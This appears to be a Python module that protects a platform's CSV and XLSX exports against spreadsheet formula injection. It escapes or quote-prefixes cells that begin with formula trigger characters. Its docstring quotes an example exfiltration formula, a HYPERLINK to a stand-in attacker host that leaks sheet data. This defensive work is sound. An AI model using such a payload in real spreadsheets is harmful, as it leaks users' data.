"""Spreadsheet cells that are safe to open: no text from a town, a citizen or a report becomes a formula.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or a carriage return, whatever follows) as a formula: a
knowledge-base answer ``=HYPERLINK("https://evil.example/?"&A1, "Hilfe")``
would become a link that leaks the sheet. Every CSV and XLSX the platform
writes goes through this module (OWASP "CSV injection"):

- CSV: such a text gets a leading apostrophe (``'=…``), which spreadsheets show
  as text; ``restore`` takes it off again when the platform reads its own file
  back (the knowledge-base import).
- XLSX: the text is stored as a string cell marked "quote prefix", exactly as
  typed; only the platform's own formulas (``Formula``) are formulas.

Plain numbers (``-3.50``) stay numbers. Town exports keep raw data in JSON.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$")


class Formula(str):
    """A formula the platform writes itself (``=SUM(E2:E9)``); every other text starting with ``=`` is text."""


def dangerous(value: Any) -> bool:
    return (isinstance(value, str) and not isinstance(value, Formula) and value.startswith(TRIGGERS)
            and not _NUMBER.match(value))


def neutralise(value: Any) -> Any:
    """The value for a CSV cell: text that a spreadsheet would run gets a leading apostrophe."""
    return "'" + value if dangerous(value) else value


def restore(value: Any) -> Any:
    """Undo ``neutralise`` on a cell read back from a CSV the platform wrote."""
    if isinstance(value, str) and value.startswith("'") and dangerous(value[1:]):
        return value[1:]
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in values]


class SafeWriter:
    """``csv.writer`` whose rows are neutralised."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values are neutralised."""

    def writerow(self, rowdict):
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts):
        for row in rowdicts:
            self.writerow(row)


def append_row(sheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` for an openpyxl worksheet, with text kept as text (see the module's note)."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if dangerous(value):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
